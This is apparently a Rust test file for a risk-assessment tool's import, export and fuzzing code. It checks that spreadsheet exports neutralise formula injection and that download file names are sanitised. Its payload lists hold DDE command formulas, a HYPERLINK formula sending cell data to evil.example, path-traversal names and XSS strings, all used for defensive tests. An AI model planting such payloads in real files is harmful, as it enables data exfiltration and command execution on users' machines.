//! Reliability and security of the domain, natively: every import failure
//! class (kind, path, line and column), schema fixtures and migrations,
//! formula injection in CSV and XLSX, file names, property tests over valid
//! assessments, and a bounded stable-Rust fuzz loop over the same entry
//! points as `fuzz/`. The store's side of the same failures is in the web
//! app's tests/reliability.rs.
// Tests may use serde_json's own writers (clippy.toml keeps them out of
// the app and the core).
#![allow(clippy::disallowed_methods)]

use annexa_core::catalogue::CONTROLS;
use annexa_core::*;
use serde_json::{json, Value};

mod support {
    pub mod assessments;
    pub mod exports;
    pub mod failures;
}
use support::exports::{check_exports, dangerous, parse_csv};
use support::failures::{
    example_text, example_value, failure_cases, pretty, released_example, NOW,
};

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// The text at a 1-based line and column.
fn text_at(text: &str, (line, column): (usize, usize)) -> String {
    text.lines()
        .nth(line - 1)
        .map(|l| l.chars().skip(column - 1).collect())
        .unwrap_or_default()
}

// ---------------------------------------------------------------- import failure classes

#[test]
fn every_import_failure_names_its_kind_path_and_position() {
    for c in failure_cases() {
        let e = import(&c.bytes).expect_err(c.what);
        let shown = e.to_string();
        assert_eq!(e.kind, c.kind, "{}: {shown}", c.what);
        assert_eq!(e.path.as_deref(), c.path, "{}: {shown}", c.what);
        assert!(shown.contains(c.text), "{}: {shown}", c.what);
        if let Some(path) = c.path {
            assert!(
                shown.starts_with(&format!("{path}: ")),
                "{}: {shown}",
                c.what
            );
        }
        // Every error but "too large" (never read) and "empty" carries a position.
        if !matches!(c.what, "too large" | "empty") {
            let (line, column) = e
                .position
                .unwrap_or_else(|| panic!("{}: no position: {shown}", c.what));
            assert!(line >= 1 && column >= 1, "{}", c.what);
            assert!(
                shown.contains(&format!("(line {line}, column {column})")),
                "{}: {shown}",
                c.what
            );
        }
    }
}

#[test]
fn positions_point_at_the_value_at_fault() {
    // (what, mutation, the text that must start at the reported position)
    type Mutation = fn(&mut Value);
    let cases: &[(&str, Mutation, &str)] = &[
        (
            "dangling asset",
            |v| {
                v["assessment"]["risks"][3]["identification"] =
                    json!({"kind": "asset_based", "assets": ["A-01", "A-17"]})
            },
            "\"A-17\"",
        ),
        (
            "out of range",
            |v| v["assessment"]["risks"][1]["likelihood"] = json!(9),
            "9",
        ),
        (
            "duplicate id",
            |v| v["assessment"]["assets"][1]["id"] = json!("A-01"),
            "\"A-01\"",
        ),
        (
            "wrong type",
            |v| v["assessment"]["risks"][2]["likelihood"] = json!("high"),
            "\"high\"",
        ),
        ("newer schema", |v| v["schema_version"] = json!(99), "99"),
        (
            "soa entry",
            |v| {
                v["assessment"]["soa"]["entries"]["5.1"] =
                    json!({"owner": "x".repeat(MAX_TEXT + 1)})
            },
            "\"xxxx",
        ),
        (
            "unknown control key",
            |v| v["assessment"]["soa"]["entries"]["9.9"] = json!({}),
            "{}",
        ),
    ];
    for (what, mutate, expected) in cases {
        let mut v = example_value();
        mutate(&mut v);
        let bytes = pretty(&v);
        let text = String::from_utf8(bytes.clone()).expect("UTF-8");
        let e = import(&bytes).expect_err(what);
        let at = e
            .position
            .unwrap_or_else(|| panic!("{what}: no position: {e}"));
        let found = text_at(&text, at);
        assert!(
            found.starts_with(expected),
            "{what}: {e}: the text there is {found:?}"
        );
    }
    // The line and column of a bad byte.
    let e = import(b"{\n  \"a\": \"b\xff\"}").expect_err("bad byte");
    assert_eq!(e.position, Some((2, 10)), "{e}");
}

#[test]
fn a_bom_is_accepted_and_unknown_fields_are_not() {
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend_from_slice(example_text().as_bytes());
    assert_eq!(import(&bytes).expect("BOM").assessment, example());
    let mut v = example_value();
    v["assessment"]["risks"][0]["treatment"]["targett"] = json!(null);
    let e = import(&pretty(&v)).expect_err("typo");
    assert_eq!(e.kind, ErrorKind::UnknownField, "{e}");
    assert!(e.to_string().contains("check the spelling"), "{e}");
    let mut v = example_value();
    v["extra"] = json!(1);
    assert_eq!(
        import(&pretty(&v)).expect_err("envelope").kind,
        ErrorKind::UnknownField
    );
}

// ---------------------------------------------------------------- fixtures and migrations

#[test]
fn every_released_schema_fixture_loads() {
    let dir = format!("{}/tests/fixtures", env!("CARGO_MANIFEST_DIR"));
    let mut seen = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("fixtures") {
        let path = entry.expect("entry").path();
        let name = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or("")
            .to_owned();
        if !name.ends_with(".json") {
            continue;
        }
        let version: u32 = name
            .strip_prefix('v')
            .and_then(|r| r.split('-').next())
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("{name}: fixtures are named v<schema>-<what>.json"));
        let bytes = std::fs::read(&path).expect("read");
        let (env, from) = import_versioned(&bytes).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(from, version, "{name}");
        assert_eq!(env.schema_version, SCHEMA_VERSION, "{name} is migrated");
        // A loaded fixture exports and loads again unchanged.
        assert_eq!(
            import(export(&env.assessment, NOW).as_bytes()).map(|e| e.assessment),
            Ok(env.assessment),
            "{name}"
        );
        seen.push(version);
    }
    for v in 1..=SCHEMA_VERSION {
        assert!(
            seen.contains(&v),
            "no fixture of schema version {v} in tests/fixtures"
        );
    }
    assert_eq!(
        import(&fixture("v1-example.json")).expect("v1").assessment,
        released_example()
    );
    assert_eq!(
        import(&fixture("v1-minimal.json")).expect("v1").assessment,
        Assessment::default()
    );
}

#[test]
fn migration_refuses_impossible_versions() {
    let mut payload = json!({});
    assert_eq!(
        migrate(&mut payload, 0).expect_err("0").kind,
        ErrorKind::WrongFormat
    );
    let e = migrate(&mut payload, SCHEMA_VERSION + 1).expect_err("newer");
    assert_eq!(e.kind, ErrorKind::NewerSchema);
    assert!(e.to_string().contains("update Annexa"), "{e}");
    assert!(migrate(&mut payload, SCHEMA_VERSION).is_ok());
}

// ---------------------------------------------------------------- hostile content

/// The payloads that spreadsheets read as formulas, and harmless look-alikes.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "=cmd|'/c powershell'!A1",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
];

fn hostile_assessment(payloads: &[&str]) -> Assessment {
    let mut a = example();
    let mut p = payloads.iter().cycle().map(|s| s.to_string());
    let mut next = || p.next().unwrap_or_default();
    a.context.organisation = next();
    a.context.scope = next();
    for x in &mut a.assets {
        x.name = next();
        x.owner = next();
        x.description = next();
    }
    for r in &mut a.risks {
        r.title = next();
        r.owner = next();
        r.description = next();
        r.treatment.owner = next();
        if let Some(acc) = &mut r.treatment.acceptance {
            acc.by = next();
            acc.reason = next();
        }
    }
    for c in CONTROLS.iter().take(20) {
        let e = a.soa.entries.entry(c.id).or_default();
        e.owner = next();
        e.evidence = vec![next(), next()];
        e.justification = Some(next());
        e.exclusion_justification = next();
    }
    a
}

#[test]
fn every_csv_and_xlsx_cell_is_neutralised() {
    let a = hostile_assessment(FORMULAS);
    assert!(problems(&a, "").is_empty(), "{:?}", problems(&a, ""));
    let csvs = [
        ("risk register", report::risk_register_csv(&a)),
        ("soa", report::soa_csv(&generate_soa(&a))),
        ("score", report::score_csv(&a)),
    ];
    let mut all = Vec::new();
    for (what, csv) in csvs {
        let rows = parse_csv(&csv);
        assert!(rows.len() > 1, "{what}");
        let width = rows[0].len();
        for (n, row) in rows.iter().enumerate() {
            assert_eq!(row.len(), width, "{what} row {n}: {row:?}");
            for cell in row {
                assert!(!dangerous(cell), "{what} row {n}: {cell:?}");
            }
        }
        all.extend(rows.into_iter().flatten());
    }
    for f in FORMULAS.iter().filter(|f| dangerous(f)) {
        assert!(
            all.iter().any(|c| c.contains(&format!("'{f}"))),
            "{f:?} is kept, with a quote in front"
        );
    }
    let today = Date::new(2026, 11, 30).unwrap();
    let sheets = workbook_sheets(&a, today);
    assert_eq!(
        sheets.iter().map(|s| s.name.as_str()).collect::<Vec<_>>(),
        [
            "Cover",
            "SoA",
            "Risk register",
            "Risk treatment plan",
            "Risk acceptance",
            "Asset register",
            "Method",
            "Change history",
            "Gap results",
            "Risk register data"
        ]
    );
    // Text stays as typed; whatever could start a formula gets the
    // quote-prefix format (read back from the XML in core/tests/exports.rs).
    for s in &sheets {
        for cell in s.rows.iter().flatten() {
            if let annexa_core::documents::Cell::Text(t) = cell {
                assert!(
                    !dangerous(t) || report::formula_like(t),
                    "{}: {t:?}",
                    s.name
                );
            }
        }
    }
    assert!(workbook(&a, today).is_ok_and(|b| b.starts_with(b"PK")));
}

#[test]
fn neutralise_follows_owasp() {
    let cases: &[(&str, &str)] = &[
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=already", "'=already"),
        (" =1", "' =1"),
        ("a=1", "a=1"),
        ("", ""),
        ("R-01", "R-01"),
        ("ÿ=", "ÿ="),
    ];
    for (cell, expected) in cases {
        assert_eq!(report::neutralise(cell), *expected, "{cell:?}");
    }
}

#[test]
fn download_file_names_are_safe() {
    let cases: &[(&str, &str)] = &[
        ("annexa-acme-2026-11-23.json", "annexa-acme-2026-11-23.json"),
        ("../../etc/passwd", "etc-passwd"),
        ("..\\..\\Windows\\win.ini", "Windows-win.ini"),
        ("report.csv", "report.csv"),
        ("<script>alert(1)</script>.csv", "script-alert-1-script.csv"),
        ("a   b\n\tc.json", "a-b-c.json"),
        ("  .hidden", "annexa-export.hidden"),
        ("trailing dots...", "trailing-dots"),
        ("CON.json", "annexa-CON.json"),
        ("nul", "annexa-nul"),
        ("lpt1.tar.gz", "annexa-lpt1.tar.gz"),
        ("Ünïcödé 名前.xlsx", "n-c-d.xlsx"),
        ("", "annexa-export"),
        ("../", "annexa-export"),
        ("名前.json", "annexa-export.json"),
        ("a\u{0}b.json", "a-b.json"),
    ];
    for (input, expected) in cases {
        assert_eq!(sanitise_filename(input), *expected, "{input:?}");
    }
    let long = format!("{}.json", "x".repeat(300));
    let name = sanitise_filename(&long);
    assert_eq!(name.len(), MAX_FILENAME);
    assert!(
        name.ends_with(".json"),
        "the extension survives truncation: {name}"
    );
    let org = hostile_assessment(&["<img src=x onerror=alert(1)>/../CON"]);
    let stem = file_stem(&org, Date::new(2026, 11, 23).expect("date"));
    let safe = sanitise_filename(&format!("{stem}.json"));
    assert_eq!(safe, "annexa-img-srcx-onerroralert1con-2026-11-23.json");
}

// ---------------------------------------------------------------- properties

mod properties {
    use super::*;
    use proptest::prelude::*;
    use support::assessments::{leaf, replace_somewhere, valid_assessment};

    proptest! {
        #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]

        #[test]
        fn valid_assessments_export_and_import_unchanged(a in valid_assessment()) {
            prop_assert_eq!(problems(&a, ""), vec![]);
            let text = export(&a, NOW);
            let back = import(text.as_bytes()).map(|e| e.assessment);
            prop_assert_eq!(back.as_ref(), Ok(&a));
            // And byte for byte.
            prop_assert_eq!(export(&back.unwrap_or_default(), NOW), text);
        }

        #[test]
        fn csv_and_xlsx_cells_are_never_formulas(a in valid_assessment()) {
            // Panics inside are failures that proptest shrinks, like prop_assert.
            check_exports(&a);
        }

        #[test]
        fn a_damaged_valid_file_never_panics_and_says_where(
            a in valid_assessment(), pick in any::<usize>(), new in leaf(),
        ) {
            let mut v: Value = serde_json::from_str(&export(&a, NOW)).expect("JSON");
            replace_somewhere(&mut v, pick, new);
            let bytes = serde_json::to_vec_pretty(&v).expect("JSON");
            if let Err(e) = import(&bytes) {
                prop_assert!(e.position.is_some(), "{}", e);
                let shown = e.to_string();
                if let Some(p) = &e.path {
                    prop_assert!(shown.starts_with(p.as_str()), "{}", shown);
                }
            }
        }
    }
}

// ---------------------------------------------------------------- bounded fuzzing on stable

/// A small xorshift generator: the same inputs on every run.
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

const TOKENS: &[&[u8]] = &[
    b"{",
    b"}",
    b"[",
    b"]",
    b",",
    b":",
    b"\"",
    b"\\",
    b"null",
    b"-1",
    b"1e999",
    b"0.5",
    b"\"A-17\"",
    b"\"5.99\"",
    b"\"T999\"",
    b"\xff",
    b"\xef\xbb\xbf",
    b"\"format\"",
    b"\"schema_version\": 2",
    b"\"kind\": \"event_based\"",
    b"=cmd|' /C calc'!A0",
    b"<script>alert(1)</script>",
    b"\n",
];

/// One mutation of `input`, as a fuzzer would make it.
fn mutate(rng: &mut XorShift, input: &mut Vec<u8>, corpus: &[Vec<u8>]) {
    let len = input.len();
    match rng.below(8) {
        0 if len > 0 => {
            let at = rng.below(len);
            input[at] = rng.next() as u8;
        }
        1 if len > 0 => {
            let at = rng.below(len);
            let n = rng.below(64).min(len - at);
            input.drain(at..at + n);
        }
        2 => {
            let at = rng.below(len + 1);
            let t = TOKENS[rng.below(TOKENS.len())];
            input.splice(at..at, t.iter().copied());
        }
        3 if len > 0 => {
            let from = rng.below(len);
            let n = rng.below(256).min(len - from);
            let chunk = input[from..from + n].to_vec();
            let at = rng.below(len + 1);
            input.splice(at..at, chunk);
        }
        4 if len > 0 => input.truncate(rng.below(len)),
        5 => {
            // Splice in part of another corpus file.
            let other = &corpus[rng.below(corpus.len())];
            if !other.is_empty() {
                let from = rng.below(other.len());
                let n = rng.below(512).min(other.len() - from);
                let at = rng.below(len + 1);
                input.splice(at..at, other[from..from + n].iter().copied());
            }
        }
        6 if len > 0 => {
            // Flip a digit: levels and ids go out of range.
            let at = rng.below(len);
            if input[at].is_ascii_digit() {
                input[at] = b'0' + rng.below(10) as u8;
            }
        }
        _ => {
            let at = rng.below(len + 1);
            input.insert(at, b"{}[]\",:0a\\"[rng.below(10)]);
        }
    }
}

/// The entry points `fuzz/` exercises: import, then every export of what
/// imported. Nothing may panic; exports must stay neutral and re-import.
fn exercise(bytes: &[u8]) -> bool {
    match import(bytes) {
        Ok(env) => {
            let a = env.assessment;
            check_exports(&a);
            let again = import(export(&a, NOW).as_bytes()).map(|e| e.assessment);
            assert_eq!(again.as_ref(), Ok(&a));
            true
        }
        Err(e) => {
            assert!(!e.message.is_empty());
            false
        }
    }
}

/// Runs `ANNEXA_FUZZ_ITERATIONS` (default 3,000) mutated inputs from the
/// fixtures through [`exercise`]. `fuzz/` does the same with coverage
/// guidance when `cargo fuzz` (nightly) is installed.
#[test]
fn stable_fuzz_loop_over_import_and_exports() {
    let iterations: usize = std::env::var("ANNEXA_FUZZ_ITERATIONS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(3_000);
    let mut corpus = vec![
        fixture("v1-example.json"),
        fixture("v1-minimal.json"),
        export(&hostile_assessment(FORMULAS), NOW).into_bytes(),
    ];
    let seeds = corpus.len();
    let mut rng = XorShift(0x5EED_A11E_0000_0001);
    let (mut ok, mut refused) = (0usize, 0usize);
    for _ in 0..iterations {
        let mut input = corpus[rng.below(corpus.len())].clone();
        for _ in 0..=rng.below(4) {
            mutate(&mut rng, &mut input, &corpus);
        }
        input.truncate(MAX_IMPORT_BYTES + 16);
        if exercise(&input) {
            ok += 1;
            // Keep a few valid mutants as new seeds, as a fuzzer's corpus grows.
            if corpus.len() < seeds + 32 {
                corpus.push(input);
            }
        } else {
            refused += 1;
        }
    }
    eprintln!(
        "stable fuzz loop: {iterations} executions ({ok} imported, {refused} refused), 0 crashes"
    );
    assert_eq!(ok + refused, iterations);
}

/// `ANNEXA_FUZZ_ITERATIONS` (default 3,000): every stable loop runs that
/// many executions, so `scripts/fuzz.sh` can ask each for a fixed number.
fn fuzz_iterations() -> usize {
    std::env::var("ANNEXA_FUZZ_ITERATIONS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(3_000)
}

/// Any bytes as an encrypted file (`Sealed::detect`, what the page reads
/// before it asks WebCrypto for the passphrase): nothing panics; a refusal
/// says what is wrong; what is read has a salt, an iv and a ciphertext,
/// and an iteration count within [`MAX_ITERATIONS`](annexa_core::sealed).
#[test]
fn stable_fuzz_loop_over_encrypted_files() {
    let sealed = Sealed::new(&[7; 16], &[9; 12], b"ciphertext of any length").to_json();
    let mut corpus = vec![
        sealed.clone().into_bytes(),
        sealed
            .replace("\"version\": 1", "\"version\": 2")
            .into_bytes(),
        fixture("v1-minimal.json"),
    ];
    let seeds = corpus.len();
    let mut rng = XorShift(0x5EED_5EA1_0000_0003);
    let (mut read, mut refused, mut plain) = (0usize, 0usize, 0usize);
    let n = fuzz_iterations();
    for _ in 0..n {
        let mut input = corpus[rng.below(corpus.len())].clone();
        for _ in 0..=rng.below(4) {
            mutate(&mut rng, &mut input, &corpus);
        }
        input.truncate(MAX_IMPORT_BYTES + 16);
        match Sealed::detect(&input) {
            None => plain += 1,
            Some(Ok(parts)) => {
                assert!(!parts.salt.is_empty() && !parts.iv.is_empty());
                read += 1;
                if corpus.len() < seeds + 32 {
                    corpus.push(input);
                }
            }
            Some(Err(e)) => {
                assert!(!e.message.trim().is_empty(), "no message");
                refused += 1;
            }
        }
    }
    eprintln!(
        "sealed fuzz loop: {n} executions ({read} read, {refused} refused, {plain} not encrypted), 0 crashes"
    );
    assert_eq!(read + refused + plain, n);
    assert!(read > 0 && refused > 0, "the loop reaches both outcomes");
}

/// Any file that imports, as the Stage 1 documents: every document is
/// built and written as Markdown and its tables as CSV; nothing panics,
/// and no cell starts a formula.
#[test]
fn stable_fuzz_loop_over_the_documents() {
    let mut corpus = vec![
        fixture("v1-example.json"),
        fixture("v1-minimal.json"),
        export(&hostile_assessment(FORMULAS), NOW).into_bytes(),
    ];
    let seeds = corpus.len();
    let today: Date = "2026-11-30".parse().expect("a date");
    let mut rng = XorShift(0x5EED_D0C5_0000_0004);
    let (mut written, mut refused) = (0usize, 0usize);
    let n = fuzz_iterations();
    for _ in 0..n {
        let mut input = corpus[rng.below(corpus.len())].clone();
        for _ in 0..=rng.below(4) {
            mutate(&mut rng, &mut input, &corpus);
        }
        input.truncate(MAX_IMPORT_BYTES + 16);
        let Ok(env) = import(&input) else {
            refused += 1;
            continue;
        };
        for d in documents::documents(&env.assessment, today) {
            let md = documents::document_md(&d);
            assert!(md.starts_with("# "), "{md:.80}");
        }
        let csv = documents::risk_treatment_plan_csv(&env.assessment, today);
        for row in parse_csv(&csv) {
            for cell in row {
                assert!(!dangerous(&cell), "a formula in the plan's CSV: {cell:?}");
            }
        }
        written += 1;
        if corpus.len() < seeds + 32 {
            corpus.push(input);
        }
    }
    eprintln!(
        "documents fuzz loop: {n} executions ({written} written, {refused} refused), 0 crashes"
    );
    assert_eq!(written + refused, n);
    assert!(written > 0, "the loop reaches the documents");
}
